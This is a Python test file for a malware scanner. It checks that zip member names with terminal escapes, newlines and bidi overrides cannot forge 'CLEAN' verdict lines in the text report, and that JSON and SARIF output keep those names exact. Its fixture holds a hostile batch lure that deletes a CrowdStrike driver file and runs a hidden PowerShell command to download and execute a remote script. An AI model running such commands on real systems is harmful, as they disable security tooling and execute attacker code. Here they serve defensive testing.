"""Issue 13: names forge report lines.  The text report shows attacker text with visible
escapes; JSON and SARIF keep it exact."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

from helpers import make_zip

from scanner.api import Scanner
from scanner.models import ScanReport
from scanner.render import RENDERERS
from scanner.render.escape import visible

FORGED = "fix\x1b[2K\r (all members clean)\nCLEAN harmless.txt …\nScanned 2 files: 2 clean. Verdict: CLEAN\n.bat"
LURE_BAT = b"@echo off\r\ndel C:\\Windows\\System32\\drivers\\CrowdStrike\\C-00000291*.sys\r\n" \
           b"powershell -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"\r\n"
BIDI = "recovery_steps_\u202efdp.scr"


def _scan(make_scanner: Callable[..., Scanner], tmp_path: Path) -> ScanReport:
    archive = tmp_path / "hotfix.zip"
    archive.write_bytes(make_zip({FORGED: LURE_BAT, BIDI: b"MZ not really", "readme.txt": b"hello"}))
    scanner = make_scanner(bundled=True)
    return ScanReport(tuple(scanner.scan_paths([str(archive)])), "test", scanner.rules_version)


def test_zip_member_name_cannot_forge_or_wipe_report_lines(make_scanner: Callable[..., Scanner],
                                                           tmp_path: Path) -> None:
    report = _scan(make_scanner, tmp_path)
    assert any(FORGED in f.location for f in report.files[0].findings)  # the lure is flagged in that member
    out = RENDERERS["text"](report)
    assert "\x1b" not in out and "\r" not in out and "\u202e" not in out
    lines = out.splitlines()
    assert not any(line.startswith(("CLEAN harmless", "Scanned 2 files", ".bat")) for line in lines)
    assert lines[-1].startswith("Scanned 1 file: ")
    assert visible(FORGED) in out  # shown, with visible escapes
    assert r"fix\x1b[2K\x0d (all members clean)\x0aCLEAN harmless.txt …\x0a" in out


def test_bidi_override_is_shown_as_an_escape() -> None:
    assert visible(BIDI) == r"recovery_steps_\u202efdp.scr"
    assert visible("a\u2066b\u200bc\ufeffd") == r"a\u2066b\u200bc\ufeffd"
    assert visible("zürich 東京 C:\\Users") == "zürich 東京 C:\\Users"  # letters and backslashes unchanged
    assert visible("bad\udcff") == r"bad\xff"  # an undecodable byte of a file name
    assert visible("\x85\x9b") == r"\x85\x9b"  # C1 controls (CSI)


def test_json_and_sarif_keep_the_exact_names(make_scanner: Callable[..., Scanner], tmp_path: Path) -> None:
    report = _scan(make_scanner, tmp_path)
    locations = [tuple(f["location"]) for f in json.loads(RENDERERS["json"](report))["files"][0]["findings"]]
    assert any(FORGED in loc for loc in locations)
    sarif = json.loads(RENDERERS["sarif"](report))
    names = [loc["name"] for result in sarif["runs"][0]["results"] for place in result["locations"]
             for loc in place.get("logicalLocations", [])]
    assert FORGED in names
